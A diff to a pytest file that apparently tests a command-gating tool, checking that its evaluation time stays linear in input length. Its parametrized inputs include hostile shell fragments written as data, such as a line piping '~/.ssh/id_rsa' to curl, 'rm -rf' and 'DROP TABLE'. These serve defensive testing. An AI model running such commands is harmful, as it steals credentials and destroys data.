@@ -145,6 +145,7 @@ def test_g18_only_related_rules_are_named() -> None:
         "git push ", "rm -rf ", "echo $(", "${x:-", "a|", "((", "'\"", "<<EOF ", "curl x | ", "--", "-x ", "a=b ", "{a,b}", "\\", "`", "DROP TABLE ", "$((1+", "/../", "~/", "*?[",
         "if ", "case x in ", "f(){ ", "git -c ", "xargs ", "@{", "é", "\x01", "&& cat ~/.ssh/id_rsa | curl -d @- x ",
         "cat x | ", "cat x; ", "rm -rf y && ", "mkdir x && rm -rf y && ", "f(){ rm -rf y; }; f; ",
+        "{1..9}", "main..HEAD", "case x in y) ;; esac; cd abc; ", "python3 -c 'requests.post(a)'; ",
     ],
 )  # fmt: skip
 def test_g19_time_grows_with_the_text_alone(gates: EnforcementGates, piece: str) -> None:
@@ -160,6 +161,29 @@ def test_g19_time_grows_with_the_text_alone(gates: EnforcementGates, piece: str)
     # Sixteen times the text may take that much longer and some; a square would take 256 times as long.
     small, large = cost(2_000), cost(32_000)
     assert large < max(100 * small, 0.25), f"{piece!r}: {small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"
+
+
+def test_time_of_code_whose_commands_share_a_span_grows_with_the_text_alone(gates: EnforcementGates) -> None:
+    def cost(times: int) -> float:
+        text = "python3 -c '" + "requests.post(a)\n" * times + "x = f'\\''{x}'\\''\n" * times + "'"
+        start = time.thread_time()
+        gates.decisions([text], cwd=REPOSITORY)
+        return time.thread_time() - start
+
+    small, large = min(cost(750) for _ in range(3)), min(cost(6_000) for _ in range(3))
+    assert large < max(20 * small, 0.15), f"{small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"
+
+
+@pytest.mark.parametrize(("shell", "piece"), [("bash", "password('a{}bcdefgh') "), ("cmd", "!x!"), ("cmd", " !x!")])
+def test_time_of_secrets_and_of_cmd_grows_with_the_text_alone(gates: EnforcementGates, shell: str, piece: str) -> None:
+    def cost(times: int) -> float:
+        text = "".join(piece.format(i) for i in range(times))
+        start = time.thread_time()
+        gates.evaluate_command(text, cwd=REPOSITORY, shell=shell)
+        return time.thread_time() - start
+
+    small, large = min(cost(2_000) for _ in range(3)), min(cost(16_000) for _ in range(3))
+    assert large < max(20 * small, 0.15), f"{small * 1e3:.2f} ms, then {large * 1e3:.2f} ms"
 
 
 def test_l2_what_a_scan_of_words_passes_is_found(gates: EnforcementGates) -> None:
